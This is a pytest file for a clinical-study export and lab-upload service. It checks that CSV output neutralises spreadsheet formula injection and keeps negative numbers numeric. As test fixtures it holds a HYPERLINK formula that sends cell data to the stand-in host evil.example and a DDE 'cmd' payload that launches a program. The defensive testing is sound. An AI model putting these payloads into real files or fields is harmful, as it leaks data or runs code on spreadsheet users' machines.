"""Identified exports and the lab upload report: hostile text opens as text, never as a
spreadsheet formula; numbers (negative ones included) stay numbers."""

import csv
import datetime as dt
import io

import pytest

from assessments.models import Assessment
from longitudinal.exports import writers
from longitudinal.snapshots import snapshots_refresh_changed
from registry.models import Arm, Enrollment, Study
from tests.factories import PatientFactory, VisitFactory

pytestmark = pytest.mark.django_db

BASE = dt.date(2025, 1, 15)
HOSTILE = {
    "given_name": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "family_name": "@SUM(A1:A9)",
    "mrn": "+1-555-0100",
}


@pytest.fixture
def hostile(site_a):
    """A patient whose name and MRN are formulas, seen 30 days before the study began."""
    patient = PatientFactory(site=site_a, **HOSTILE)
    study = Study.objects.create(code="OPEN", name="Open study", blinded=False)
    arm = Arm.objects.create(study=study, code="A", name="Arm A")
    Enrollment.objects.create(patient=patient, study=study, arm=arm, enrolled_on=BASE)
    before = VisitFactory(patient=patient, date=BASE - dt.timedelta(days=30), kind="baseline")
    Assessment.objects.create(visit=before, instrument="cfs", version="cfs-v1", inputs={},
                              score=4, category="prefrail")
    snapshots_refresh_changed()
    return patient


def _rows(user, **kw) -> list[dict]:
    out = io.StringIO()
    writers.export_write(user=user, form_or_filters={}, out=out, **kw)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("kind", ["tidy", "wide"])
def test_hostile_names_and_mrns_open_as_text(coordinator, hostile, kind):
    rows = _rows(coordinator, kind=kind, deidentified=False, date_mode="date")
    mine = [r for r in rows if r["study_id"] == hostile.study_id]
    assert mine
    for row in mine:
        for column, value in HOSTILE.items():
            assert row[column] == "'" + value


def test_days_before_baseline_stay_negative_numbers(coordinator, hostile):
    rows = _rows(coordinator, kind="tidy", deidentified=False, date_mode="days_from_baseline")
    assert [r["days_from_baseline"] for r in rows if r["study_id"] == hostile.study_id] == ["-30"]


def test_the_upload_report_neutralises_what_the_laboratory_sent(
    client, coordinator, patient_a, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    text = (
        "study_id,analyte,value,unit,collected_at,external_id,status\n"
        f"{patient_a.study_id},CRP,1.2,mg/dL,2025-03-01T08:00:00+00:00,=cmd|' /C calc'!A0,final\n"
        f"{patient_a.study_id},CRP,1.3,mg/dL,2025-03-02T08:00:00+00:00,-7,final\n"
    )
    client.force_login(coordinator)
    file = SimpleUploadedFile("r.csv", text.encode(), content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/labs/uploads/", {"source_name": "LIS", "file": file})
    report = client.get(response.url + "report.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(report)))
    assert [r["external_id"] for r in rows] == ["'=cmd|' /C calc'!A0", "-7"]
    assert rows[0]["outcome"] == "created"
